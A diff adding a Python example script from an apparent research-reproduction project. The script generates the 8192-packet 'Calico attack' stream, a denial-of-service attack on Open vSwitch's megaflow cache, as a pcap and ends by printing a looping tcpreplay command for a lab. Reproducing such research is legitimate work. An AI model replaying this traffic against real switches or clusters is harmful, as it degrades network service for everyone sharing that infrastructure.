@@ -1,0 +1,42 @@
+#!/usr/bin/env python3
+"""Export the covert stream as a pcap for replay against real OVS.
+
+Generates the Calico attack's full 8192-packet adversarial sequence as
+genuine Ethernet/IPv4/TCP frames (checksums and all) and writes a
+classic pcap, timestamped at the refresh rate that keeps every megaflow
+alive — ready for ``tcpreplay`` in a lab deployment (the workflow of
+the paper's companion repo, github.com/cslev/ovsdos).
+
+Run:  python examples/craft_covert_pcap.py [covert.pcap]
+"""
+
+import sys
+
+from repro.attack import (
+    CovertStreamGenerator,
+    calico_attack_policy,
+    required_refresh_pps,
+)
+from repro.net import PcapReader, parse_ethernet
+from repro.net.addresses import ip_to_int
+
+path = sys.argv[1] if len(sys.argv) > 1 else "covert.pcap"
+
+_policy, dimensions = calico_attack_policy(
+    allow_ip="10.0.0.10", allow_dport=80, allow_sport=32768
+)
+generator = CovertStreamGenerator(dimensions, dst_ip=ip_to_int("10.0.9.20"))
+
+rate = required_refresh_pps(8192) * 1.5  # 50% headroom over the floor
+count = generator.write_pcap(path, rate_pps=rate)
+print(f"wrote {count} covert frames to {path} at {rate:.0f} pps")
+
+# prove the capture round-trips through an independent parser
+packets = PcapReader(path).read_all()
+first, last = parse_ethernet(packets[0].data), parse_ethernet(packets[-1].data)
+duration = packets[-1].timestamp - packets[0].timestamp
+print(f"capture spans {duration:.1f}s (< the 10s idle timeout per cycle: "
+      f"{'yes' if duration < 10 else 'NO'})")
+print(f"first frame: {first.summary()}")
+print(f"last frame:  {last.summary()}")
+print("\nreplay in a lab:  tcpreplay --intf1 <attacker-veth> --loop 0 " + path)
